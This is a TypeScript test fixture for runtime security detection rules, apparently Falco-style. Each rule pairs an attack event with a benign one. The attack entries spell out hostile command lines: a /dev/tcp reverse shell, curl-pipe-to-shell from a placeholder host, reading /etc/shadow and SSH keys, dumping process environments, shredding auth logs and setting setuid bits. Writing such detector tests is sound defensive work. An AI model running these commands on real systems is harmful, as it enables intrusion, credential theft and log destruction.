import { inPod, onHost, PERSON, type AttackCase } from './attack-case.ts'

export const ACCESS_ATTACK_CASES: readonly AttackCase[] = [
  {
    rule: 'PTRACE attached to process',
    attack: onHost('/usr/bin/python3.11', 'python3 inject.py 612', 'apache2'),
    usual: onHost('/usr/bin/strace', 'strace -p 612', 'bash', PERSON),
  },
  {
    rule: 'Read environment variable from /proc files',
    attack: inPod('/usr/bin/cat', 'cat /proc/1/environ', 'apache2', {
      'fd.name': '/proc/1/environ',
    }),
    usual: inPod('/opt/datadog-agent/bin/agent/agent', 'agent run', 'containerd-shim', {
      'fd.name': '/proc/41/environ',
    }),
  },
  {
    rule: 'Read sensitive file trusted after startup',
    attack: inPod('/usr/sbin/nginx', 'nginx', 'nginx', { 'fd.name': '/etc/shadow' }),
    usual: onHost('/usr/sbin/mysqld', 'mysqld', 'systemd', { 'fd.name': '/etc/pam.d/mysql' }),
  },
  {
    rule: 'Read sensitive file untrusted',
    attack: inPod('/usr/bin/base64', 'base64 /etc/shadow', 'php-fpm', { 'fd.name': '/etc/shadow' }),
    usual: onHost('/usr/bin/veeamagent', 'veeamagent --full', 'systemd', {
      'fd.name': '/etc/shadow',
    }),
  },
  {
    rule: 'Read Shell Configuration File',
    attack: onHost('/usr/bin/cat', 'cat /home/ann/.bash_history', 'sh', {
      'fd.name': '/home/ann/.bash_history',
    }),
    usual: onHost('/usr/bin/vim', 'vim .bashrc', 'bash', {
      ...PERSON,
      'fd.name': '/home/ann/.bashrc',
    }),
  },
  {
    rule: 'Read ssh information',
    attack: onHost('/usr/bin/cat', 'cat /home/ann/.ssh/id_ed25519', 'apache2', {
      'fd.name': '/home/ann/.ssh/id_ed25519',
    }),
    usual: onHost('/usr/bin/git', 'git fetch', 'bash', {
      ...PERSON,
      'fd.name': '/home/ann/.ssh/config',
    }),
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    attack: inPod('/usr/bin/bash', 'bash -i', 'java', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:4444',
    }),
    usual: inPod('/usr/sbin/vsftpd', 'vsftpd', 'tini', {
      'fd.name': '10.0.0.9:40000->10.0.0.5:21',
    }),
  },
  {
    rule: 'Remove Bulk Data from Disk',
    attack: onHost('/usr/bin/shred', 'shred -u /var/log/auth.log', 'bash'),
    usual: onHost('/usr/sbin/mkfs', 'mkfs -t ext4 disk.img', 'make', PERSON),
  },
  {
    rule: 'Reverse Shell from Web Server',
    attack: inPod('/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'apache2'),
    usual: inPod('/usr/bin/bash', 'bash -c exec 3<>/dev/tcp/database/5432', 'php', {
      'user.name': 'www-data',
      'user.uid': 33,
    }),
  },
  {
    rule: 'Run shell untrusted',
    attack: inPod('/usr/bin/sh', 'sh -c curl http://198.51.100.7/x | sh', 'java'),
    usual: inPod('/usr/bin/sh', 'sh -c convert in.png out.jpg', 'httpd'),
  },
  {
    rule: 'Schedule Cron Jobs',
    attack: onHost('/usr/bin/crontab', 'crontab -', 'sh'),
    usual: onHost('/usr/bin/crontab', 'crontab -l', 'bash', PERSON),
  },
  {
    rule: 'Search Private Keys or Passwords',
    attack: onHost('/usr/bin/find', 'find / -name id_rsa', 'sh'),
    usual: onHost('/usr/bin/grep', 'grep -r BEGIN RSA PRIVATE KEY src', 'bash', PERSON),
  },
  {
    rule: 'Set Setuid or Setgid bit',
    attack: onHost('/usr/bin/chmod', 'chmod 4755 /tmp/.x', 'bash', {
      'evt.arg.mode': 'S_ISUID|S_IXUSR|S_IRUSR',
      'evt.arg.filename': '/tmp/.x',
    }),
    usual: onHost('/usr/bin/chmod', 'chmod 2775 /srv/share', 'bash', {
      ...PERSON,
      'evt.arg.mode': 'S_ISGID|S_IXUSR|S_IRUSR',
      'evt.arg.filename': '/srv/share',
    }),
  },
  {
    rule: 'Sudo Potential Privilege Escalation',
    attack: onHost('/usr/bin/sudoedit', 'sudoedit -s \\ AAAA', 'sh'),
    usual: onHost('/usr/bin/sudo', 'sudo -s cat a\\ b.txt', 'bash', PERSON),
  },
  {
    rule: 'System user interactive',
    attack: onHost('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x', 'sshd', {
      'user.name': 'www-data',
      'user.uid': 33,
      'user.loginuid': 33,
    }),
    usual: onHost('/usr/bin/php8.2', 'php occ status', 'sudo', {
      ...PERSON,
      'user.name': 'www-data',
      'user.uid': 33,
    }),
  },
  {
    rule: 'Terminal shell in container',
    attack: inPod('/usr/bin/bash', 'bash -c unset HISTFILE; bash', 'runc', { 'proc.tty': '34816' }),
    usual: inPod('/usr/bin/bash', 'bash', 'runc', { 'proc.tty': '34816' }),
  },
]
